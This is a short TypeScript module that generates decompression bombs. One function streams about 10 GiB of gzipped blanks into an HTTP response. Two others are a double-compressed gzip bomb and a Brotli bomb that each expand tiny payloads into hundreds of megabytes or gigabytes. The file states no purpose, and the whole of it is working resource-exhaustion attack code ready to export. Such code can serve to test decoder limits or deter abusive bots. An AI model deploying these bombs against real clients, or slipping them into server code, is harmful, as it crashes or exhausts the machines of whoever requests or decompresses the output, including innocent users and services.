import type { ServerResponse } from 'node:http';
import { brotliCompressSync, constants, gzipSync } from 'node:zlib';

/** 16 MiB of blanks as one gzip member of 16 KB; members may follow each other. */
const member = () => gzipSync(Buffer.alloc(16 * 1024 * 1024, 0x20));

/** 10 GiB in ten megabytes, as fast as it is taken. */
export async function sendGzipBomb(response: ServerResponse): Promise<void> {
  const one = member();
  const closed = new Promise((resolve) => response.once('close', resolve));
  for (let count = 0; count < 640 && !response.destroyed; count++) {
    if (!response.write(one)) await Promise.race([new Promise((resolve) => response.once('drain', resolve)), closed]);
  }
  response.end();
}

/** 10 GiB in 60 KB: the members are compressed once more. */
export const doubleGzipBomb = () => gzipSync(Buffer.concat(Array(640).fill(member())), { level: 9 });

/** 256 MiB in less than 50 KB. `windowBits` is the window that a decoder needs, as a power of two. */
export const brotliBomb = (windowBits = 22) =>
  brotliCompressSync(Buffer.alloc(256 * 1024 * 1024, 0x20), {
    params: { [constants.BROTLI_PARAM_QUALITY]: 1, [constants.BROTLI_PARAM_LGWIN]: windowBits },
  });
